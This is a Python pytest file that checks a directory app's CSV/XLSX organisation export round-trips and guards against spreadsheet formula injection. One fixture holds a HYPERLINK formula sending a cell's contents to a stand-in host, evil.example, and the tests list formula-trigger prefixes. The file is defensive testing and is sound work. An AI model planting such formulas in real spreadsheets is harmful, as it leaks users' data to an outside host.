"""Export → import is the identity, and no exported cell can run as a formula. Both backends."""

import csv
import io
from itertools import count
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from gyoryu.directory.interchange import (
    COLUMNS,
    ImportFailed,
    export_orgs,
    import_rows,
    read_table,
)
from gyoryu.directory.schemas import OrgIn
from gyoryu.directory.service import org_by_key
from gyoryu.tabular import csv_escape, csv_unescape

FORMULA = '=HYPERLINK("http://evil.example/"&A1;"click")'


def rows_of(db, fmt: str, tmp_path: Path, ids=None) -> list[dict[str, str]]:
    path = tmp_path / f"orgs.{fmt}"
    path.write_bytes(export_orgs(db, fmt, ids=ids))
    return read_table(path)


def test_whole_directory_round_trips(db, tmp_path, fmt="xlsx"):
    """The bundled directory exported and imported back changes nothing (zh-Hans and zh-Hant
    names that fold to one key are not taken for a row repeating itself). CSV goes through the
    same rows: the property test below covers its escaping."""
    before = rows_of(db, fmt, tmp_path)
    report = import_rows(db, before, file=f"orgs.{fmt}", on_duplicate="update")
    assert report.problems == []
    assert report.created == 0 and report.updated == len(before)
    db.flush()
    assert rows_of(db, fmt, tmp_path) == before


def test_formula_names_come_back_as_text(db, tmp_path):
    rows = [{"name_en": FORMULA, "name_ko": "+교류수식", "country": "KR", "kind": "company",
             "key": "formula-test"}]
    import_rows(db, rows, file="evil.csv")
    db.flush()
    xlsx = tmp_path / "all.xlsx"
    xlsx.write_bytes(export_orgs(db, "xlsx"))
    sheet = load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    cells = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
    assert cells[FORMULA] == "s" and cells["+교류수식"] == "s"
    assert header == COLUMNS
    raw = list(csv.reader(io.StringIO(export_orgs(db, "csv").decode("utf-8-sig"))))
    assert ["'" + FORMULA] == [c for r in raw for c in r if FORMULA in c]
    assert any(r["name_en"] == FORMULA for r in rows_of(db, "csv", tmp_path))


def test_control_characters_are_refused_with_row_and_column(db):
    rows = [{"name_en": "Gyoryu\x1b Test", "country": "KR", "kind": "company"}]
    with pytest.raises(ImportFailed) as err:
        import_rows(db, rows, file="ctrl.csv")
    [problem] = err.value.report.problems
    assert (problem.row, problem.column, problem.code) == (2, "name_*", "E214")


TEXT = st.text(st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=12)
EDGE = st.sampled_from(["=1+1", "+82", "-x", "@SUM(A1)", "'=quoted", "''", "<b>x</b>",
                        "腾讯", "騰訊", "텐센트", "Tencent", "&amp;"])
NAME = st.tuples(st.one_of(EDGE, TEXT), TEXT).map("".join).filter(lambda s: s.strip() == s)


@given(value=st.text(max_size=20))
def test_csv_escape_is_reversible_and_never_starts_a_formula(value):
    escaped = csv_escape(value)
    assert csv_unescape(escaped) == value
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


SERIAL = count()


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ko=NAME, hans=NAME, en=NAME, description=st.one_of(st.just(""), NAME))
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_any_names_round_trip(db, tmp_path, fmt, ko, hans, en, description):
    n = next(SERIAL)
    row = {"key": f"rt-{n}", "name_ko": f"{ko}·{n}가", "name_zh": f"{hans}·{n}中", "name_en": f"{en}·{n}x",
           "country": "CN", "kind": "company", "description_en": description}
    nested = db.begin_nested()
    try:
        import_rows(db, [row], file="in.csv")
        db.flush()
        [back] = rows_of(db, fmt, tmp_path, ids=[org_by_key(db=db, key=row["key"]).id])
        assert OrgIn.model_validate(_input(back)) == OrgIn.model_validate(_input(row))
    finally:
        nested.rollback()


def _input(row):
    from gyoryu.directory.interchange import row_to_input

    return row_to_input({k: v for k, v in row.items() if v != ""})
